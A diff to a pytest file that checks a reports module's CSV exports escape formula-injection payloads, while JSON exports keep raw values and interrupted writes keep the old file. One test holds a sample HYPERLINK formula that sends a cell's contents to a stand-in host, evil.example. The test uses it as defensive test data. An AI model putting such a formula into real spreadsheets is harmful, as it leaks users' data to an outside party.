@@ -1,10 +1,12 @@
 """R6 reports: CSV injection payloads are neutralised (OWASP), numbers stay numbers,
-``escape_formulas=False`` turns it off, and an interrupted export keeps the previous file."""
+``escape_formulas=False`` turns it off, JSON keeps the raw values, and an interrupted export
+keeps the previous file."""
 
 from __future__ import annotations
 
 import csv
 import io
+import os
 
 import pandas as pd
 import pytest
@@ -76,11 +78,21 @@ def test_r6_escape_formulas_false_writes_cells_as_they_are(tmp_path):
         assert _cells(fh.read()) == PAYLOADS
 
 
-def test_r6_json_exports_are_neutralised_too(tmp_path):
-    path = reports.to_json(pd.DataFrame({"name": PAYLOADS}), tmp_path / "x.json")
+def test_r6_json_keeps_the_raw_values_only_csv_is_escaped(tmp_path):
     import json
 
-    assert [r["name"] for r in json.loads(path.read_text())] == ["'" + p for p in PAYLOADS]
+    df = pd.DataFrame({"name": PAYLOADS + PLAIN_NUMBERS + HARMLESS})
+    path = reports.to_json(df, tmp_path / "x.json")
+    assert [r["name"] for r in json.loads(path.read_text(encoding="utf-8"))] == df["name"].tolist()
+    lines = reports.json_text(df, lines=True).splitlines()
+    assert [json.loads(line)["name"] for line in lines] == df["name"].tolist()
+    # the same frame as CSV, which spreadsheets open, is escaped
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert "'" + hyperlink in _cells(reports.csv_text(df))
+    assert json.loads(reports.json_text(df))[2]["name"] == hyperlink
+    # the old switch is accepted and changes nothing
+    with pytest.warns(DeprecationWarning, match="JSON keeps every value"):
+        assert reports.json_text(df, escape_formulas=True) == reports.json_text(df)
 
 
 def test_r6_the_hostile_names_round_trip_through_read_csv(session, tmp_path):
@@ -97,11 +109,11 @@ def test_r6_an_export_interrupted_midway_leaves_the_previous_file(tmp_path, monk
     reports.to_csv(pd.DataFrame({"name": ["previous"]}), target)
     before = target.read_bytes()
 
-    def explode(fh, *args, **kwargs):
-        fh.write(b'"half a row,')  # something was already written when it failed
+    def explode(fd):  # the rows are written and flushed; Ctrl-C arrives before the rename
+        assert os.fstat(fd).st_size > 0
         raise KeyboardInterrupt
 
-    monkeypatch.setattr(reports, "_write_csv_handle", explode)
+    monkeypatch.setattr(os, "fsync", explode)
     with pytest.raises(KeyboardInterrupt):
         reports.to_csv(pd.DataFrame({"name": ["new"] * 1000}), target)
     monkeypatch.undo()
